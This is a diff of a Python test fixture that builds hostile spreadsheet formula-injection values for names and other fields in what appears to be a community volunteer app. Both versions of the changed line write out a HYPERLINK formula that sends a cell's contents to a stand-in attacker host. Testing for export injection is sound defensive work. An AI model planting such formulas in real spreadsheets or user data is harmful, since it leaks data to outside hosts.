@@ -28,7 +28,7 @@ def _is_number(text: str) -> bool:
 def hostile(request, db, world, make_wish):
     """Names, category, unit, grid, community and a correction reason starting with `ch`."""
     ch = request.param
-    payload = lambda what: f"{ch}HYPERLINK(\"http://evil.example/?\"&A1,\"{what}\")"  # noqa: E731
+    payload = lambda what: f"{ch}HYPERLINK(\"http://e.x/?\"&A1,\"{what}\")"  # noqa: E731  (≤ 40: names)
     when = datetime(2026, 11, 5, 10, tzinfo=BJ).astimezone(timezone.utc)
     make_wish("closed", estimated_hours=2, volunteers=[world.member], title="帮忙取快递")
     world.member.name = payload("vol")
